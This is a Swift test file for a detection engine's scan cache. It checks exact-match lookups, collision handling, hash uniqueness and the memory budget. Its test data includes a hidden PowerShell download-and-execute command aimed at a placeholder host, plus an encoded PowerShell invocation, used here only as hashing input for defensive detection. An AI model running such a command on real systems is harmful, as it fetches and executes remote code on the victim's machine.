import Testing

@testable import Sigma

/// The prefilter's cache of recent values: exact bytes in, the stored literal ids out; anything else
/// (another value, a value whose entry was taken by another) is a miss.
@Suite struct ScanCacheTests {
    let budget = ScanCache.Budget()

    func withBytes<R>(_ text: String, _ body: (UnsafeRawBufferPointer) -> R) -> R {
        Array(text.utf16).withUnsafeBytes(body)
    }

    @Test func storedValuesReplayTheirIDs() {
        let cache = ScanCache(budget: budget)
        let values = ["C:\\Windows\\System32\\cmd.exe", "", "x", "powershell.exe -enc AAAA", "NT AUTHORITY\\SYSTEM"]
        for (k, v) in values.enumerated() {
            let ids: [Int32] = (0..<Int32(k)).map { $0 * 3 }
            withBytes(v) { b in
                let h = ScanCache.hash(b)
                #expect(cache.lookup(b, hash: h) == nil)
                ids.withUnsafeBufferPointer { cache.store(b, hash: h, ids: $0) }
            }
        }
        var answered = 0
        for (k, v) in values.enumerated() {
            withBytes(v) { b in
                // An entry may have been taken by a later value with the same slot; a hit must be exact.
                if let ids = cache.lookup(b, hash: ScanCache.hash(b)) {
                    answered += 1
                    #expect(Array(ids) == (0..<Int32(k)).map { $0 * 3 })
                }
            }
        }
        #expect(answered >= values.count - 1)
        #expect(cache.hits == answered)
    }

    @Test func aCollidingHashIsNotTakenForTheValue() {
        let cache = ScanCache(budget: budget)
        withBytes("C:\\Windows\\explorer.exe") { b in
            let ids: [Int32] = [7]
            ids.withUnsafeBufferPointer { cache.store(b, hash: 12345, ids: $0) }
        }
        // Same hash (forced), different bytes of the same length: a miss.
        withBytes("C:\\Windows\\explorer.exf") { b in #expect(cache.lookup(b, hash: 12345) == nil) }
        withBytes("C:\\Windows\\explorer.exe") { b in #expect(cache.lookup(b, hash: 12345).map(Array.init) == [7]) }
    }

    @Test func hashesTellNearValuesApart() {
        var seen = Set<UInt64>()
        for i in 0..<10_000 {
            withBytes("C:\\Users\\user\\AppData\\Local\\Temp\\a\(i).exe") { seen.insert(ScanCache.hash($0)) }
        }
        #expect(seen.count == 10_000)
        // Never 0 (an empty entry), even for empty input.
        #expect(ScanCache.hash(UnsafeRawBufferPointer(start: nil, count: 0)) != 0)
        #expect(ScanCache.hash(UnsafeRawBufferPointer(start: nil, count: 0)) != withBytes("a") { ScanCache.hash($0) })
    }

    @Test func everyByteCounts() {
        // A change anywhere (each lane, the last words, the last bytes) changes the hash.
        let a = "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1') #AAAA!"
        let base = withBytes(a) { ScanCache.hash($0) }
        let units = Array(a.utf16)
        for position in units.indices {
            var changed = units
            changed[position] ^= 0x01
            #expect(changed.withUnsafeBytes { ScanCache.hash($0) } != base, "character \(position)")
        }
    }

    @Test func theBudgetBoundsWhatIsHeld() {
        let small = ScanCache.Budget(limit: 10_000)
        let ids: [Int32] = [1]
        func store(_ cache: ScanCache, _ text: String, hash: UInt64? = nil) {
            withBytes(text) { b in ids.withUnsafeBufferPointer { cache.store(b, hash: hash ?? ScanCache.hash(b), ids: $0) } }
        }
        func held(_ cache: ScanCache, _ text: String, hash: UInt64? = nil) -> Bool {
            withBytes(text) { b in cache.lookup(b, hash: hash ?? ScanCache.hash(b)) != nil }
        }
        do {
            let cache = ScanCache(budget: small)
            // Slot of hash 1 << 56 | 1: one entry of 400 bytes of text, kept aside.
            let aside: UInt64 = 1 << 56 | 1
            store(cache, String(repeating: "a", count: 200), hash: aside)
            for i in 0..<1_000 {
                store(cache, String(repeating: "x", count: 200) + "\(i)")
                #expect(small.used <= small.limit)
            }
            #expect(small.used > 9_000)  // the budget was used, not refused from the start
            // Spent: a value as large as the entry it replaces still takes its place...
            store(cache, String(repeating: "b", count: 200), hash: aside)
            #expect(held(cache, String(repeating: "b", count: 200), hash: aside))
            #expect(!held(cache, String(repeating: "a", count: 200), hash: aside))
            // ...a larger one does not.
            store(cache, String(repeating: "c", count: 2_000), hash: aside)
            #expect(!held(cache, String(repeating: "c", count: 2_000), hash: aside))
            #expect(held(cache, String(repeating: "b", count: 200), hash: aside))
        }
        // Freed with the cache.
        #expect(small.used == 0)
    }
}
